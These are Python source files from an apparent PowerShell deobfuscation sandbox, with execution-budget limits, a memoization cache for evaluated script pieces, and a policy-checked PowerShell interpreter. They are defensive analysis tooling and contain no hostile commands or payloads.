from repro.runtime.errors import StepLimitError

DEFAULT_STEP_LIMIT = 200_000
DEFAULT_DEPTH_LIMIT = 64
DEFAULT_LOOP_LIMIT = 10_000
DEFAULT_OUTPUT_LIMIT = 1_000_000  # characters of produced string data

# Wall-clock is only polled every this-many steps: a monotonic clock
# read per step would dominate the interpreter's hot loop.
_DEADLINE_POLL_MASK = 0x3FF  # every 1024 steps


@dataclass
class ExecutionBudget:
    """A mutable budget shared by one evaluation (and its sub-evaluations).

    Every AST node visit costs one step; loops additionally burn one loop
    tick per iteration so a tight ``while($true)`` cannot run away even if
    its body is trivial.  ``output_chars`` tracks the largest single
    string the evaluation produced, so budget consumption can be
    reported (:meth:`spent`) alongside steps and loop ticks.

    Budgets are plain numbers; :meth:`from_policy` builds one from a
    :class:`~repro.policy.SandboxPolicy`, filling unpinned (``None``)
    policy limits with the engine defaults above.
    """

    step_limit: int = DEFAULT_STEP_LIMIT
    depth_limit: int = DEFAULT_DEPTH_LIMIT
    loop_limit: int = DEFAULT_LOOP_LIMIT
    output_limit: int = DEFAULT_OUTPUT_LIMIT
    # Monotonic deadline timestamp; 0.0 disables the wall-time check.
    deadline: float = 0.0
    steps: int = field(default=0, init=False)
    depth: int = field(default=0, init=False)
    loop_ticks: int = field(default=0, init=False)
    output_chars: int = field(default=0, init=False)

    @classmethod
    def from_policy(
        cls, policy, step_limit: Optional[int] = None
    ) -> "ExecutionBudget":
        """The budget a :class:`~repro.policy.SandboxPolicy` declares.

        *step_limit* overrides the policy's (the recovery engine passes
        its per-piece limit); a ``wall_time_seconds`` policy field
        becomes a monotonic deadline starting now.
        """
        if step_limit is None:
            step_limit = (
                policy.step_limit
                if policy.step_limit is not None else DEFAULT_STEP_LIMIT
            )
        deadline = 0.0
        if policy.wall_time_seconds is not None:
            deadline = time.monotonic() + policy.wall_time_seconds
        return cls(
            step_limit=step_limit,
            depth_limit=(
                policy.depth_limit
                if policy.depth_limit is not None else DEFAULT_DEPTH_LIMIT
            ),
            loop_limit=(
                policy.loop_limit
                if policy.loop_limit is not None else DEFAULT_LOOP_LIMIT
            ),
            output_limit=(
                policy.output_limit
                if policy.output_limit is not None else DEFAULT_OUTPUT_LIMIT
            ),
            deadline=deadline,
        )

    def step(self) -> None:
        self.steps += 1
        if self.steps > self.step_limit:
            raise StepLimitError(
                f"step limit of {self.step_limit} exceeded"
            )
        if self.deadline and not (self.steps & _DEADLINE_POLL_MASK):
            if time.monotonic() > self.deadline:
                raise StepLimitError("wall-time budget exceeded")

    def loop_tick(self) -> None:
        self.loop_ticks += 1
        if self.loop_ticks > self.loop_limit:
            raise StepLimitError(
                f"loop limit of {self.loop_limit} exceeded"
            )

    def enter(self) -> None:
        self.depth += 1
        if self.depth > self.depth_limit:
            raise StepLimitError(
                f"recursion depth limit of {self.depth_limit} exceeded"
            )

    def leave(self) -> None:
        self.depth -= 1

    def check_output(self, size: int) -> None:
        if size > self.output_chars:
            self.output_chars = size
        if size > self.output_limit:
            raise StepLimitError(
                f"output size limit of {self.output_limit} exceeded"
            )

    def spent(self) -> Dict[str, int]:
        """Consumption snapshot (the audit/stats reporting form)."""
        return {
            "steps": self.steps,
            "loop_ticks": self.loop_ticks,
            "output_chars": self.output_chars,
        }
