"""Execution budgets bounding every sandboxed evaluation."""

from dataclasses import dataclass, field

from repro.runtime.errors import StepLimitError

DEFAULT_STEP_LIMIT = 200_000
DEFAULT_DEPTH_LIMIT = 64
DEFAULT_LOOP_LIMIT = 10_000
DEFAULT_OUTPUT_LIMIT = 1_000_000  # characters of produced string data


@dataclass
class ExecutionBudget:
    """A mutable budget shared by one evaluation (and its sub-evaluations).

    Every AST node visit costs one step; loops additionally burn one loop
    tick per iteration so a tight ``while($true)`` cannot run away even if
    its body is trivial.
    """

    step_limit: int = DEFAULT_STEP_LIMIT
    depth_limit: int = DEFAULT_DEPTH_LIMIT
    loop_limit: int = DEFAULT_LOOP_LIMIT
    output_limit: int = DEFAULT_OUTPUT_LIMIT
    steps: int = field(default=0, init=False)
    depth: int = field(default=0, init=False)
    loop_ticks: int = field(default=0, init=False)

    def step(self) -> None:
        self.steps += 1
        if self.steps > self.step_limit:
            raise StepLimitError(
                f"step limit of {self.step_limit} exceeded"
            )

    def loop_tick(self) -> None:
        self.loop_ticks += 1
        if self.loop_ticks > self.loop_limit:
            raise StepLimitError(
                f"loop limit of {self.loop_limit} exceeded"
            )

    def enter(self) -> None:
        self.depth += 1
        if self.depth > self.depth_limit:
            raise StepLimitError(
                f"recursion depth limit of {self.depth_limit} exceeded"
            )

    def leave(self) -> None:
        self.depth -= 1

    def check_output(self, size: int) -> None:
        if size > self.output_limit:
            raise StepLimitError(
                f"output size limit of {self.output_limit} exceeded"
            )
