"""Structure-hash-keyed memoization of subtree evaluation.

Obfuscated scripts repeat themselves *within* one sample: chunked-blob
builders emit the same decode idiom per chunk, generated droppers reuse
one string-assembly pattern dozens of times, and the fixpoint loop
re-offers every still-obfuscated piece on every iteration.  The service
layer already exploits duplication *across* requests with its
content-addressed ``ResultCache``; :class:`SubtreeMemo` applies the same
observation *intra-script*, at the piece-evaluation boundary of
:class:`~repro.core.recovery.RecoveryEngine`.

The key is a structure hash: a digest of the piece's source text (the
subtree's spliced form) together with every binding that could influence
its result — variable values, environment overrides, traced function
definitions, and the engine's execution policy.  Two pieces agree on the
key only when the sandbox would compute the same thing, so replaying the
stored outcome is semantics-preserving by construction:

- only *immutable scalar* results (str/int/float/bool/None/PSChar) are
  stored — a memo must never hand out an aliasable mutable object;
- the stored record replays the original outcome ``reason`` and
  ``steps``, so per-run telemetry (``evaluator_steps``, outcome
  taxonomy, step-limit classification) is byte-identical with the memo
  on or off — the determinism property the acceptance test pins;
- bindings that cannot be digested faithfully (objects, arrays) make
  the piece unmemoizable rather than approximately keyed.

Variable bindings are filtered to names that appear literally in the
piece; pieces that could reach bindings *dynamically* (``Get-Variable``,
``iex``, provider paths...) are detected by marker substrings and digest
the full binding set instead.  False positives only lower the hit rate,
never correctness.

The memo is bounded LRU (entry count and per-value size) and lives for
one pipeline run — created in
:meth:`~repro.core.pipeline.Deobfuscator.deobfuscate`, shared across
fixpoint iterations, reported via ``subtree_memo_hits`` /
``subtree_memo_misses`` in :class:`~repro.obs.PipelineStats`.
"""

import hashlib
from collections import OrderedDict
from typing import Any, Dict, Optional, Tuple

from repro.runtime.values import PSChar

DEFAULT_MAX_ENTRIES = 4096
# Stored string results above this length are not worth a slot and
# would let one huge decoded blob dominate the budget.
MAX_VALUE_CHARS = 65_536

# A record is (ok, value, reason, steps) — exactly what
# RecoveryEngine._evaluate computed for the piece.
MemoRecord = Tuple[bool, Any, str, int]

# Scalars that are safe to digest as key material and to replay as
# results (immutable, compared by value).
_SCALAR_TYPES = (str, int, float, bool, type(None), PSChar)

# Substrings whose presence means the piece might reach variable or
# environment bindings without naming them literally.
_DYNAMIC_ACCESS_MARKERS = (
    "variable",        # Get-Variable / Set-Variable / variable: drive
    "invoke",          # Invoke-Expression / .Invoke()
    "iex",
    "gv",              # Get-Variable alias
    "gci",             # provider enumeration
    "childitem",
    "executioncontext",
    "env:",            # environment drive
)


def _digest_scalar(value: Any) -> Optional[str]:
    """A stable text form of a scalar binding, or None if not a scalar."""
    if isinstance(value, bool):
        return f"b:{value}"
    if isinstance(value, (int, float)):
        return f"n:{value!r}"
    if isinstance(value, str):
        return f"s:{value}"
    if value is None:
        return "null"
    if isinstance(value, PSChar):
        return f"c:{value.char}"
    return None


class SubtreeMemo:
    """Bounded LRU memo of piece-evaluation outcomes for one run."""

    __slots__ = ("max_entries", "hits", "misses", "evictions", "_entries")

    def __init__(self, max_entries: int = DEFAULT_MAX_ENTRIES):
        self.max_entries = max_entries
        self.hits = 0
        self.misses = 0
        self.evictions = 0
        self._entries: "OrderedDict[bytes, MemoRecord]" = OrderedDict()

    def __len__(self) -> int:
        return len(self._entries)

    # -- keying ------------------------------------------------------------

    def make_key(
        self,
        piece: str,
        variables: Optional[Dict[str, Any]],
        env_overrides: Optional[Dict[str, str]],
        function_defs: Optional[Dict[str, str]],
        salt: Tuple = (),
    ) -> Optional[bytes]:
        """The structure hash for *piece* under these bindings.

        Returns None when the piece's result could depend on state this
        key cannot capture — such pieces are simply not memoized.
        """
        piece_lower = piece.lower()
        digest = hashlib.blake2b(digest_size=16)
        update = digest.update
        update(piece.encode("utf-8", "surrogatepass"))
        for item in salt:
            update(f"|salt:{item!r}".encode("utf-8"))

        dynamic = any(
            marker in piece_lower for marker in _DYNAMIC_ACCESS_MARKERS
        ) or bool(function_defs)
        if variables:
            for name in sorted(variables):
                if not dynamic and name.lower() not in piece_lower:
                    continue  # cannot be referenced literally
                rendered = _digest_scalar(variables[name])
                if rendered is None:
                    return None  # non-scalar binding: not capturable
                update(f"|v:{name.lower()}={rendered}".encode(
                    "utf-8", "surrogatepass"
                ))
        if env_overrides:
            for name in sorted(env_overrides):
                update(f"|e:{name.lower()}={env_overrides[name]}".encode(
                    "utf-8", "surrogatepass"
                ))
        if function_defs:
            for name in sorted(function_defs):
                update(f"|f:{name.lower()}={function_defs[name]}".encode(
                    "utf-8", "surrogatepass"
                ))
        return digest.digest()

    # -- lookup / store ----------------------------------------------------

    def get(self, key: bytes) -> Optional[MemoRecord]:
        record = self._entries.get(key)
        if record is None:
            self.misses += 1
            return None
        self._entries.move_to_end(key)
        self.hits += 1
        return record

    def put(
        self, key: bytes, ok: bool, value: Any, reason: str, steps: int
    ) -> None:
        """Store one outcome if its value is safely replayable."""
        if not isinstance(value, _SCALAR_TYPES):
            return
        if isinstance(value, str) and len(value) > MAX_VALUE_CHARS:
            return
        if key in self._entries:
            self._entries.move_to_end(key)
        self._entries[key] = (ok, value, reason, steps)
        while len(self._entries) > self.max_entries:
            self._entries.popitem(last=False)
            self.evictions += 1
