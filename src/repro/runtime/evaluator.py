"""The sandboxed PowerShell interpreter.

:class:`Evaluator` executes parsed AST under an execution budget with a
deny-by-default surface.  It is used three ways:

1. by the deobfuscator, to run *recoverable pieces* (paper Section III-B2)
   under the ``recovery-strict`` policy (blocklist enforced);
2. by variable tracing, to evaluate assignment right-hand sides;
3. by the behavioural sandbox (paper Table IV) under ``verify-observing``
   (blocklist off), with all outward effects recorded on the
   :class:`~repro.runtime.host.SandboxHost`.

What an evaluation may do is declared by one
:class:`~repro.policy.SandboxPolicy`; every capability decision —
commands, member calls, static types, ``$env:`` reads (and, on the
host, effect kinds) — funnels through its ``check()`` choke point,
which feeds the per-run :class:`~repro.policy.PolicyAudit`.  The
``enforce_blocklist`` boolean remains as a constructor convenience and
maps onto the matching preset.
"""

import base64
import binascii
from typing import Any, Dict, List, Optional

from repro.policy.presets import default_policy
from repro.pslang import ast_nodes as N
from repro.pslang.aliases import resolve_alias
from repro.pslang.errors import PSSyntaxError
from repro.pslang.parser import parse_cached as parse
from repro.runtime import members, statics
from repro.runtime.cmdlets import CommandContext, lookup_cmdlet
from repro.runtime.environment import (
    is_automatic,
    lookup_automatic,
    lookup_environment,
    split_scope_prefix,
)
from repro.runtime.errors import (
    BlockedCommandError,
    EvaluationError,
    PolicyDeniedError,
    StepLimitError,
    UnknownVariableError,
    UnsupportedOperationError,
)
from repro.runtime.host import SandboxHost
from repro.runtime.limits import ExecutionBudget
from repro.runtime.objects import PSObjectBase
from repro.runtime.operators import binary_op, unary_op
from repro.runtime.values import (
    PSChar,
    ScriptBlockValue,
    as_list,
    char_array,
    to_bool,
    to_int,
    to_number,
    to_string,
    unwrap_single,
)

# Parameters that never consume the following argument.
_SWITCH_PARAMETERS = frozenset(
    {
        "asplaintext", "force", "valueonly", "unique", "descending",
        "ascending", "noprofile", "nop", "noni", "noninteractive", "noexit",
        "nologo", "sta", "mta", "wait", "passthru", "confirm", "whatif",
        "verbose", "debug", "recurse", "hidden", "leaf", "parent",
        "noclobber", "append", "asbytestream", "raw",
    }
)


class _BreakSignal(Exception):
    pass


class _ContinueSignal(Exception):
    pass


class _ReturnSignal(Exception):
    def __init__(self, values: List[Any]):
        super().__init__("return")
        self.values = values


class _ExitSignal(Exception):
    pass


class Scope:
    """A chained variable scope with case-insensitive names."""

    __slots__ = ("variables", "parent")

    def __init__(self, parent: Optional["Scope"] = None):
        self.variables: Dict[str, Any] = {}
        self.parent = parent

    def get(self, name: str) -> Any:
        key = name.lower()
        scope: Optional[Scope] = self
        while scope is not None:
            if key in scope.variables:
                return scope.variables[key]
            scope = scope.parent
        raise UnknownVariableError(name)

    def has(self, name: str) -> bool:
        key = name.lower()
        scope: Optional[Scope] = self
        while scope is not None:
            if key in scope.variables:
                return True
            scope = scope.parent
        return False

    def set(self, name: str, value: Any) -> None:
        """Assign, preferring the scope where the name already exists."""
        key = name.lower()
        scope: Optional[Scope] = self
        while scope is not None:
            if key in scope.variables:
                scope.variables[key] = value
                return
            scope = scope.parent
        self.variables[key] = value

    def set_local(self, name: str, value: Any) -> None:
        self.variables[name.lower()] = value

    def root(self) -> "Scope":
        scope = self
        while scope.parent is not None:
            scope = scope.parent
        return scope


class TypeValue:
    """A bare type literal used as a value (``[int]`` in ``-is [int]``)."""

    __slots__ = ("name",)

    def __init__(self, name: str):
        self.name = name

    def ps_to_string(self) -> str:
        resolved = statics.normalize_type_name(self.name)
        return "System." + resolved.capitalize() if "." not in resolved else (
            "System." + resolved
        )


class Evaluator:
    """Interpret PowerShell AST inside the sandbox."""

    def __init__(
        self,
        host: Optional[SandboxHost] = None,
        budget: Optional[ExecutionBudget] = None,
        enforce_blocklist: bool = True,
        variables: Optional[Dict[str, Any]] = None,
        continue_on_error: bool = False,
        policy=None,
        audit=None,
    ):
        # *policy* (a repro.policy.SandboxPolicy) is the declarative
        # capability surface; the legacy enforce_blocklist boolean maps
        # onto the matching preset when no policy is given.
        if policy is None:
            policy = default_policy(enforce_blocklist)
        self.policy = policy
        self.audit = audit
        self.host = host or SandboxHost()
        if self.host.policy is None:
            self.host.policy = policy
            self.host.audit = audit
        self.budget = budget or ExecutionBudget.from_policy(policy)
        self.enforce_blocklist = policy.enforce_blocklist
        # Real PowerShell treats most command failures as non-terminating
        # and moves to the next statement; whole-script runs (behaviour
        # sandbox, baseline emulation) want that, piece recovery does not.
        self.continue_on_error = continue_on_error
        self.scope = Scope()
        self.functions: Dict[str, N.FunctionDefinitionAst] = {}
        self.function_sources: Dict[str, str] = {}
        self.dynamic_aliases: Dict[str, str] = {}
        # name (lower) -> python callable(ctx): used by the baseline tools
        # to emulate "overriding functions" (intercepting Invoke-Expression
        # and friends the way PSDecode/PowerDrive/PowerDecode do).
        self.cmdlet_overrides: Dict[str, object] = {}
        self.env_overrides: Dict[str, str] = {}
        # Scaled-down real sleeping for Start-Sleep: 0 disables (default).
        # Baseline tools set this to emulate their execute-everything
        # behaviour (the paper's Fig 6 latency fluctuation) honestly.
        self.sleep_scale: float = 0.0
        self.sleep_cap: float = 0.25
        self.source = ""
        if variables:
            for name, value in variables.items():
                self.scope.set_local(name, value)

    # -- public entry points --------------------------------------------------

    def run_script_text(self, text: str) -> List[Any]:
        """Parse and execute *text* in the current scope (iex semantics)."""
        try:
            ast = parse(text)
        except PSSyntaxError as exc:
            raise EvaluationError(f"invalid script: {exc}") from exc
        return self.run_script_ast(ast, text)

    def run_script_ast(self, ast: N.ScriptBlockAst, source: str) -> List[Any]:
        saved_source = self.source
        self.source = source or ast.source
        try:
            outputs: List[Any] = []
            try:
                for statement in ast.statements:
                    try:
                        outputs.extend(self.execute_statement(statement))
                    except EvaluationError as exc:
                        if not self.continue_on_error or isinstance(
                            exc, StepLimitError
                        ):
                            raise
            except _ReturnSignal as signal:
                outputs.extend(signal.values)
            except _ExitSignal:
                pass
            return outputs
        finally:
            self.source = saved_source

    def evaluate_piece(self, node: N.Ast, source: str) -> Any:
        """Evaluate one recoverable piece; returns its value."""
        saved_source = self.source
        self.source = source
        try:
            if isinstance(node, N.PipelineAst):
                return unwrap_single(self.execute_pipeline(node))
            if isinstance(node, N.StatementAst):
                return unwrap_single(self.execute_statement(node))
            return self.evaluate(node)
        finally:
            self.source = saved_source

    def lookup_variable(self, name: str) -> Any:
        return self._read_variable(name)

    def set_variable(self, name: str, value: Any) -> None:
        self._write_variable(name, value)

    # -- statements -------------------------------------------------------------

    def execute_statement(self, node: N.Ast) -> List[Any]:
        self.budget.step()
        if isinstance(node, N.PipelineAst):
            return self.execute_pipeline(node)
        if isinstance(node, N.AssignmentStatementAst):
            self._execute_assignment(node)
            return []
        if isinstance(node, N.IfStatementAst):
            return self._execute_if(node)
        if isinstance(node, N.WhileStatementAst):
            return self._execute_while(node)
        if isinstance(node, N.DoWhileStatementAst):
            return self._execute_do(node)
        if isinstance(node, N.ForStatementAst):
            return self._execute_for(node)
        if isinstance(node, N.ForEachStatementAst):
            return self._execute_foreach(node)
        if isinstance(node, N.SwitchStatementAst):
            return self._execute_switch(node)
        if isinstance(node, N.TryStatementAst):
            return self._execute_try(node)
        if isinstance(node, N.FunctionDefinitionAst):
            self.functions[node.name.lower()] = node
            self.function_sources[node.name.lower()] = self.source
            return []
        if isinstance(node, N.ReturnStatementAst):
            values = (
                self.execute_statement(node.pipeline)
                if node.pipeline is not None
                else []
            )
            raise _ReturnSignal(values)
        if isinstance(node, N.ThrowStatementAst):
            message = ""
            if node.pipeline is not None:
                message = to_string(
                    unwrap_single(self.execute_statement(node.pipeline))
                )
            raise EvaluationError(f"throw: {message}")
        if isinstance(node, N.ExitStatementAst):
            raise _ExitSignal()
        if isinstance(node, N.BreakStatementAst):
            raise _BreakSignal()
        if isinstance(node, N.ContinueStatementAst):
            raise _ContinueSignal()
        if isinstance(node, N.StatementBlockAst):
            outputs: List[Any] = []
            for statement in node.statements:
                outputs.extend(self.execute_statement(statement))
            return outputs
        raise UnsupportedOperationError(
            f"statement {node.type_name} not supported"
        )

    def _execute_block(self, block: Optional[N.StatementBlockAst]) -> List[Any]:
        if block is None:
            return []
        outputs: List[Any] = []
        for statement in block.statements:
            outputs.extend(self.execute_statement(statement))
        return outputs

    def _execute_assignment(self, node: N.AssignmentStatementAst) -> Any:
        value = unwrap_single(self.execute_statement(node.right))
        if node.operator != "=":
            current = self.evaluate(node.left)
            op = node.operator[0]  # '+=' -> '+'
            value = binary_op(op, current, value)
        self._assign_target(node.left, value)
        return value

    def _assign_target(self, target: N.Ast, value: Any) -> None:
        if isinstance(target, N.VariableExpressionAst):
            self._write_variable(target.name, value)
            return
        if isinstance(target, N.ConvertExpressionAst) and isinstance(
            target.child, N.VariableExpressionAst
        ):
            # [int]$x = ... — apply the cast, then assign.
            self._write_variable(
                target.child.name, self._cast(target.type_name_str, value)
            )
            return
        if isinstance(target, N.IndexExpressionAst):
            container = self.evaluate(target.target)
            index = self.evaluate(target.index)
            if isinstance(container, dict):
                container[to_string(index)] = value
                return
            if isinstance(container, (list, bytearray)):
                container[to_int(index)] = value
                return
            raise UnsupportedOperationError("index assignment target")
        if isinstance(target, N.MemberExpressionAst):
            obj = self.evaluate(target.expression)
            name = self._member_name(target.member)
            members.set_member(obj, name, value)
            return
        if isinstance(target, N.ArrayLiteralAst):
            values = as_list(value)
            for i, element in enumerate(target.elements):
                self._assign_target(
                    element, values[i] if i < len(values) else None
                )
            return
        raise UnsupportedOperationError(
            f"assignment target {target.type_name}"
        )

    def _execute_if(self, node: N.IfStatementAst) -> List[Any]:
        for condition, body in node.clauses:
            if to_bool(unwrap_single(self.execute_statement(condition))):
                return self._execute_block(body)
        return self._execute_block(node.else_body)

    def _execute_while(self, node: N.WhileStatementAst) -> List[Any]:
        outputs: List[Any] = []
        while to_bool(unwrap_single(self.execute_statement(node.condition))):
            self.budget.loop_tick()
            try:
                outputs.extend(self._execute_block(node.body))
            except _BreakSignal:
                break
            except _ContinueSignal:
                continue
        return outputs

    def _execute_do(self, node: N.DoWhileStatementAst) -> List[Any]:
        outputs: List[Any] = []
        while True:
            self.budget.loop_tick()
            try:
                outputs.extend(self._execute_block(node.body))
            except _BreakSignal:
                break
            except _ContinueSignal:
                pass
            condition = to_bool(
                unwrap_single(self.execute_statement(node.condition))
            )
            if node.until:
                if condition:
                    break
            elif not condition:
                break
        return outputs

    def _execute_for(self, node: N.ForStatementAst) -> List[Any]:
        outputs: List[Any] = []
        if node.initializer is not None:
            self.execute_statement(node.initializer)
        while True:
            if node.condition is not None:
                condition = to_bool(
                    unwrap_single(self.execute_statement(node.condition))
                )
                if not condition:
                    break
            self.budget.loop_tick()
            try:
                outputs.extend(self._execute_block(node.body))
            except _BreakSignal:
                break
            except _ContinueSignal:
                pass
            if node.iterator is not None:
                self.execute_statement(node.iterator)
        return outputs

    def _execute_foreach(self, node: N.ForEachStatementAst) -> List[Any]:
        outputs: List[Any] = []
        collection = unwrap_single(self.execute_statement(node.expression))
        for item in as_list(collection):
            self.budget.loop_tick()
            self._write_variable(node.variable.name, item)
            try:
                outputs.extend(self._execute_block(node.body))
            except _BreakSignal:
                break
            except _ContinueSignal:
                continue
        return outputs

    def _execute_switch(self, node: N.SwitchStatementAst) -> List[Any]:
        outputs: List[Any] = []
        subject = unwrap_single(self.execute_statement(node.condition))
        for item in as_list(subject):
            matched = False
            self._write_variable("_", item)
            for test, body in node.clauses:
                test_value = self.evaluate(test)
                if binary_op("-eq", item, test_value) is True or (
                    to_string(item).lower() == to_string(test_value).lower()
                ):
                    matched = True
                    try:
                        outputs.extend(self._execute_block(body))
                    except _BreakSignal:
                        return outputs
            if not matched and node.default is not None:
                try:
                    outputs.extend(self._execute_block(node.default))
                except _BreakSignal:
                    return outputs
        return outputs

    def _execute_try(self, node: N.TryStatementAst) -> List[Any]:
        outputs: List[Any] = []
        try:
            outputs.extend(self._execute_block(node.body))
        except (EvaluationError,) as exc:
            if node.catches:
                self._write_variable("_", str(exc))
                outputs.extend(self._execute_block(node.catches[0]))
            elif node.finally_body is None:
                raise
        finally:
            if node.finally_body is not None:
                outputs.extend(self._execute_block(node.finally_body))
        return outputs

    # -- pipelines ------------------------------------------------------------------

    def execute_pipeline(self, node: N.PipelineAst) -> List[Any]:
        self.budget.step()
        stream: List[Any] = []
        for index, element in enumerate(node.elements):
            if isinstance(element, N.CommandExpressionAst):
                value = self.evaluate(element.expression)
                if (
                    len(node.elements) == 1
                    and isinstance(element.expression, N.UnaryExpressionAst)
                    and element.expression.operator in ("++", "--")
                ):
                    # `$i++` as a whole statement discards its value.
                    stream = []
                else:
                    stream = as_list(value)
            elif isinstance(element, N.CommandAst):
                stream = self.execute_command(element, stream)
            else:
                raise UnsupportedOperationError(
                    f"pipeline element {element.type_name}"
                )
        return stream

    def execute_command(
        self, node: N.CommandAst, input_stream: List[Any]
    ) -> List[Any]:
        self.budget.step()
        if not node.elements:
            return []
        head = node.elements[0]
        if isinstance(head, N.StringConstantExpressionAst) and head.quote == "":
            name = head.value
        else:
            head_value = self.evaluate(head)
            if isinstance(head_value, ScriptBlockValue):
                args = [
                    self.evaluate(e)
                    for e in node.elements[1:]
                    if not isinstance(e, N.CommandParameterAst)
                ]
                return self.invoke_scriptblock(
                    head_value, args=args, piped=input_stream
                )
            name = to_string(head_value)
        return self.invoke_command_name(
            name, node.elements[1:], input_stream
        )

    def invoke_command_name(
        self,
        name: str,
        argument_nodes: List[N.Ast],
        input_stream: List[Any],
    ) -> List[Any]:
        resolved = self._resolve_command_name(name)
        if not self.policy.check("command", resolved, self.audit):
            self.host.record_event("blocked", resolved.lower())
            raise PolicyDeniedError(resolved, "command")
        arguments, parameters = self._bind_arguments(argument_nodes)
        if self.host.collect_events:
            self.host.record_event(
                "command",
                resolved.lower(),
                tuple(self._event_text(a) for a in arguments)
                + tuple(
                    f"-{pname}:{self._event_text(pvalue)}"
                    for pname, pvalue in sorted(parameters.items())
                ),
            )
        override = self.cmdlet_overrides.get(resolved.lower())
        if override is not None:
            context = CommandContext(
                evaluator=self,
                name=resolved,
                arguments=arguments,
                parameters=parameters,
                input_stream=input_stream,
            )
            return override(context)
        function = self.functions.get(resolved.lower())
        if function is not None:
            return self._invoke_function(
                function, arguments, parameters, input_stream
            )
        cmdlet = lookup_cmdlet(resolved)
        if cmdlet is None:
            if resolved.lower().endswith(".ps1") and self.host.has_file(
                resolved
            ):
                # Invoking a dropped script from the virtual filesystem.
                content = self.host.read_file(resolved)
                if isinstance(content, (bytes, bytearray)):
                    content = bytes(content).decode("utf-8", "replace")
                self.host.record("proc.run_script", resolved)
                return self.run_script_text(content or "")
            raise UnsupportedOperationError(f"command {name!r}")
        context = CommandContext(
            evaluator=self,
            name=resolved,
            arguments=arguments,
            parameters=parameters,
            input_stream=input_stream,
        )
        self.budget.enter()
        try:
            return cmdlet(context)
        finally:
            self.budget.leave()

    def _resolve_command_name(self, name: str) -> str:
        cleaned = name.strip()
        lowered = cleaned.lower()
        if lowered in self.dynamic_aliases:
            return self.dynamic_aliases[lowered]
        alias = resolve_alias(lowered)
        if alias is not None:
            return alias
        # `powershell.exe` with a path prefix still launches PowerShell.
        basename = lowered.rsplit("\\", 1)[-1].rsplit("/", 1)[-1]
        if basename in ("powershell", "powershell.exe", "pwsh", "pwsh.exe"):
            return basename
        if basename in ("cmd", "cmd.exe"):
            return "cmd.exe"
        return cleaned

    def _bind_arguments(self, argument_nodes: List[N.Ast]):
        arguments: List[Any] = []
        parameters: Dict[str, Any] = {}
        index = 0
        nodes = list(argument_nodes)
        while index < len(nodes):
            node = nodes[index]
            if isinstance(node, N.CommandParameterAst):
                pname = node.name.lstrip("-").lower()
                if node.argument is not None:
                    parameters[pname] = self.evaluate(node.argument)
                elif (
                    pname not in _SWITCH_PARAMETERS
                    and index + 1 < len(nodes)
                    and not isinstance(nodes[index + 1], N.CommandParameterAst)
                ):
                    parameters[pname] = self.evaluate(nodes[index + 1])
                    index += 1
                else:
                    parameters[pname] = True
            else:
                arguments.append(self.evaluate(node))
            index += 1
        return arguments, parameters

    def _invoke_function(
        self,
        node: N.FunctionDefinitionAst,
        arguments: List[Any],
        parameters: Dict[str, Any],
        input_stream: List[Any],
    ) -> List[Any]:
        saved_scope = self.scope
        saved_source = self.source
        self.scope = Scope(parent=saved_scope)
        self.source = self.function_sources.get(node.name.lower(), self.source)
        self.budget.enter()
        try:
            formals = list(node.parameters)
            if node.body is not None and node.body.param_block is not None:
                formals.extend(node.body.param_block.parameters)
            positional = list(arguments)
            for formal in formals:
                fname = formal.variable.name
                if fname.lower() in parameters:
                    self.scope.set_local(fname, parameters[fname.lower()])
                elif positional:
                    self.scope.set_local(fname, positional.pop(0))
                elif formal.default is not None:
                    self.scope.set_local(
                        fname, self.evaluate(formal.default)
                    )
                else:
                    self.scope.set_local(fname, None)
            self.scope.set_local("args", positional)
            self.scope.set_local("input", input_stream)
            outputs: List[Any] = []
            try:
                for statement in node.body.statements:
                    outputs.extend(self.execute_statement(statement))
            except _ReturnSignal as signal:
                outputs.extend(signal.values)
            return outputs
        finally:
            self.budget.leave()
            self.scope = saved_scope
            self.source = saved_source

    def invoke_scriptblock(
        self,
        block: ScriptBlockValue,
        dollar: Any = None,
        args: Optional[List[Any]] = None,
        piped: Optional[List[Any]] = None,
    ) -> List[Any]:
        saved_scope = self.scope
        saved_source = self.source
        self.scope = Scope(parent=saved_scope)
        self.source = block.source
        self.budget.enter()
        try:
            if dollar is not None:
                self.scope.set_local("_", dollar)
            self.scope.set_local("args", args or [])
            if piped is not None:
                self.scope.set_local("input", piped)
            ast = block.ast
            if isinstance(ast, N.ScriptBlockExpressionAst):
                ast = ast.scriptblock
            if ast.param_block is not None:
                positional = list(args or [])
                for formal in ast.param_block.parameters:
                    if positional:
                        self.scope.set_local(
                            formal.variable.name, positional.pop(0)
                        )
                    elif formal.default is not None:
                        self.scope.set_local(
                            formal.variable.name,
                            self.evaluate(formal.default),
                        )
            outputs: List[Any] = []
            try:
                for statement in ast.statements:
                    outputs.extend(self.execute_statement(statement))
            except _ReturnSignal as signal:
                outputs.extend(signal.values)
            return outputs
        finally:
            self.budget.leave()
            self.scope = saved_scope
            self.source = saved_source

    # -- expressions --------------------------------------------------------------------

    def evaluate(self, node: N.Ast) -> Any:
        self.budget.step()
        if isinstance(node, N.StringConstantExpressionAst):
            return node.value
        if isinstance(node, N.ExpandableStringExpressionAst):
            return self.expand_string(node.value)
        if isinstance(node, N.ConstantExpressionAst):
            return node.value
        if isinstance(node, N.VariableExpressionAst):
            return self._read_variable(node.name)
        if isinstance(node, N.ArrayLiteralAst):
            return [self.evaluate(e) for e in node.elements]
        if isinstance(node, N.UnaryExpressionAst):
            return self._evaluate_unary(node)
        if isinstance(node, N.BinaryExpressionAst):
            return self._evaluate_binary(node)
        if isinstance(node, N.ConvertExpressionAst):
            return self._cast(node.type_name_str, self.evaluate(node.child))
        if isinstance(node, N.TypeExpressionAst):
            return TypeValue(node.type_name_str)
        if isinstance(node, N.InvokeMemberExpressionAst):
            return self._evaluate_invoke_member(node)
        if isinstance(node, N.MemberExpressionAst):
            return self._evaluate_member(node)
        if isinstance(node, N.IndexExpressionAst):
            return self._evaluate_index(node)
        if isinstance(node, N.ParenExpressionAst):
            return self._evaluate_paren(node)
        if isinstance(node, N.SubExpressionAst):
            outputs: List[Any] = []
            for statement in node.statements:
                outputs.extend(self.execute_statement(statement))
            return unwrap_single(outputs)
        if isinstance(node, N.ArrayExpressionAst):
            outputs = []
            for statement in node.statements:
                outputs.extend(self.execute_statement(statement))
            return outputs
        if isinstance(node, N.HashtableAst):
            table: Dict[str, Any] = {}
            for key_node, value_node in node.pairs:
                key = to_string(self.evaluate(key_node))
                table[key] = unwrap_single(self.execute_statement(value_node))
            return table
        if isinstance(node, N.ScriptBlockExpressionAst):
            return ScriptBlockValue(node.scriptblock, self.source)
        raise UnsupportedOperationError(
            f"expression {node.type_name} not supported"
        )

